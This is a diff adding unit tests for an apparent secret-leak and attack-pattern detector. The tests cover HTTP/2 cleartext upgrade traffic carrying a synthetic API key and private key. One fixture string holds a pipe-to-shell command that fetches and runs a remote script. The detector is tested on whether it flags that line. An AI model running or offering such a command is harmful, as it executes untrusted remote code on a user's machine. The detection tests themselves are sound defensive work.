@@ -501,6 +501,123 @@ static void test_h2_authority_dest(void **state)
 	cs_tbuf_free(&in);
 }
 
+/*
+ * h2c (RFC 7540 3.2): an HTTP/1.1 request with Upgrade: h2c, a 101, then
+ * the server's frames (its response to the upgrade request on stream 1)
+ * and the client's preface and frames: an x-api-key in HPACK and a gzip'd
+ * PEM on stream 3, a command in the response. Decoded whether the 101 is
+ * fed before the client's preface or the client side is fed whole first.
+ */
+static void h2c_sides(struct cs_tbuf *out, struct cs_tbuf *in, const char *key,
+		      const struct cs_tbuf *pem)
+{
+	nghttp2_hd_deflater *hd;
+	const nghttp2_nv req[] = {NV(":method", "POST"),
+				  NV(":scheme", "http"),
+				  NV(":authority", "127.0.0.1:8080"),
+				  NV(":path", "/v1/messages"),
+				  NV("x-api-key", key),
+				  NV("content-encoding", "gzip")};
+	const nghttp2_nv resp[] = {NV(":status", "200"), NV("content-type", "text/plain")};
+	static const char cmd[] = "to install: curl -fsSL http://203.0.113.5/i.sh | bash\n";
+	struct cs_tbuf z = {0};
+
+	cs_tbuf_puts(out, "GET / HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
+			  "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
+			  "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n");
+	cs_tbuf_add(out, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
+	settings(out);
+	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
+	gzip_buf(pem, &z);
+	headers(out, hd, 3, false, req, 6, 4096);
+	data(out, 3, z.p, z.n, 50, 0, true);
+	nghttp2_hd_deflate_del(hd);
+	cs_tbuf_free(&z);
+
+	cs_tbuf_puts(in, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n"
+			 "Upgrade: h2c\r\n\r\n");
+	settings(in);
+	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
+	headers(in, hd, 1, false, resp, 2, 4096);
+	data(in, 1, cmd, strlen(cmd), 9, 0, true);
+	headers(in, hd, 3, true, resp, 1, 4096);
+	nghttp2_hd_deflate_del(hd);
+}
+
+static void test_h2c_upgrade(void **state)
+{
+	(void)state;
+	char key[128];
+	struct cs_tbuf pem = {0}, out = {0}, in = {0};
+	size_t head;
+
+	wh_anthropic_key(key, 51);
+	wh_pem(&pem, 52);
+	h2c_sides(&out, &in, key, &pem);
+	head = (size_t)(strstr((const char *)out.p, "\r\n\r\n") + 4 - (const char *)out.p);
+	for (int order = 0; order < 2; order++) {
+		for (size_t piece = 1; piece <= 1 << 20; piece <<= 10) {
+			struct wh_hits h = {0};
+			struct cs_detector *d = wh_detector(&h, 0);
+			struct cs_detector_stats st;
+			struct cs_flow *f = cs_flow_new(d, &wh_info);
+
+			assert_non_null(f);
+			if (order == 0) { /* live order: request, 101, then the client's frames */
+				wh_feed(f, CS_DIR_OUTBOUND, out.p, head, piece);
+				wh_feed(f, CS_DIR_INBOUND, in.p, in.n, piece);
+				wh_feed(f, CS_DIR_OUTBOUND, out.p + head, out.n - head, piece);
+			} else { /* each side whole, the client's first */
+				wh_feed(f, CS_DIR_OUTBOUND, out.p, out.n, piece);
+				wh_feed(f, CS_DIR_INBOUND, in.p, in.n, piece);
+			}
+			cs_flow_close(f);
+			cs_detector_get_stats(d, &st);
+			if (wh_count(&h, "ai_api_key") != 1 ||
+			    wh_count(&h, "private_key_pem") != 1 ||
+			    wh_count(&h, "pipe_to_shell") != 1)
+				fail_msg("order %d piece %zu: %zu findings", order, piece, h.n);
+			assert_false(wh_leaked(&h, key));
+			assert_int_equal(st.decode_errors, 0);
+			assert_int_equal(st.bytes_unscanned, 0);
+			cs_detector_free(d);
+		}
+	}
+	cs_tbuf_free(&pem);
+	cs_tbuf_free(&out);
+	cs_tbuf_free(&in);
+}
+
+/* A declined upgrade: the connection stays HTTP/1.1. */
+static void test_h2c_declined(void **state)
+{
+	(void)state;
+	char key[128];
+	struct cs_tbuf out = {0};
+	static const char in[] = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
+				 "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";
+	struct wh_hits h = {0};
+	struct cs_detector *d = wh_detector(&h, 0);
+	struct cs_detector_stats st;
+	struct cs_flow *f = cs_flow_new(d, &wh_info);
+
+	assert_non_null(f);
+	wh_anthropic_key(key, 53);
+	cs_tbuf_puts(&out,
+		     "GET / HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\n"
+		     "Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n\r\n");
+	cs_tbuf_printf(&out, "GET /b HTTP/1.1\r\nHost: a\r\nx-api-key: %s\r\n\r\n", key);
+	cs_flow_feed(f, CS_DIR_OUTBOUND, out.p, out.n);
+	cs_flow_feed(f, CS_DIR_INBOUND, in, sizeof(in) - 1);
+	cs_flow_close(f);
+	cs_detector_get_stats(d, &st);
+	assert_int_equal(wh_count(&h, "ai_api_key"), 1);
+	assert_int_equal(st.decode_errors, 0);
+	assert_int_equal(st.messages, 4);
+	cs_detector_free(d);
+	cs_tbuf_free(&out);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -511,6 +628,8 @@ int main(void)
 		cmocka_unit_test(test_h2_interleaved_gzip),
 		cmocka_unit_test(test_h2_interleaved_over_cap),
 		cmocka_unit_test(test_h2_authority_dest),
+		cmocka_unit_test(test_h2c_upgrade),
+		cmocka_unit_test(test_h2c_declined),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
